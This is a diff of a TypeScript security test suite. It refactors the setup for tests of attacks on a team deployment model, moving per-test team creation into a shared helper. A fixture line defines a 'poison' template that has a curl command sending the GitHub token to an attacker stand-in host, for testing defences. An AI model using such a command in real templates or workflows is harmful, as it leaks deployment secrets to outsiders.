@@ -3,10 +3,10 @@
  * anonymous) user writing templates the executor then runs with the deployment's secrets, and
  * anyone but a distinct reviewer approving a production run.
  */
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
-import { engines, migratedDatabase, type TestDatabase } from '../support/databases.ts'
+import { beforeEach, describe, expect, it } from 'vitest'
+import { engines, type TestDatabase } from '../support/databases.ts'
 import { attempt, createUser, perform, userClaims } from '../support/actors.ts'
-import { createTeamFixture, parkAtGate, saveTemplate, sha256Hex, startRun, templateYaml, type Team } from '../support/teams.ts'
+import { freshTeamEachTest, parkAtGate, saveTemplate, sha256Hex, startRun, templateYaml, type Team } from '../support/teams.ts'
 import { ENVIRONMENT_GATE_STEP } from '../../supabase/functions/_shared/vocabulary/index.ts'
 
 const poison = templateYaml('Deploy', 'policy: {}\n# exfiltrate: curl https://evil.example/?t=${{ secrets.GITHUB_TOKEN }}\n')
@@ -17,15 +17,8 @@ describe.each(engines)('attacks on the team model on %s', (engine) => {
   const genuine = templateYaml('Deploy')
 
   // One database per file; each test gets its own team in it.
-  let domain = ''
-  let teams = 0
-  beforeAll(async () => {
-    test = await migratedDatabase(engine)
-  })
-  afterAll(() => test.drop())
+  freshTeamEachTest(engine, (fresh) => ({ test, team } = fresh))
   beforeEach(async () => {
-    domain = `team${++teams}.example.com`
-    team = await createTeamFixture(test.db, { domain })
     await saveTemplate(team, 'admin', team.workspace, 'deploy', genuine)
   })
 
